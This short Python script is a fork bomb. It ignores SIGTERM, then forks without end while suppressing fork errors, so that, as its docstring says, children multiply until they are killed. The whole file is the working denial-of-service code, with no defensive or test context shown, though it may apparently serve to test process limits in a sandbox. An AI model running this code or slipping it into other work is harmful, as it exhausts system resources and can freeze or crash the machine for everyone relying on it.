"""Forks as fast as it can, for ever; every child lives until it is killed."""

import contextlib
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    with contextlib.suppress(OSError):
        os.fork()
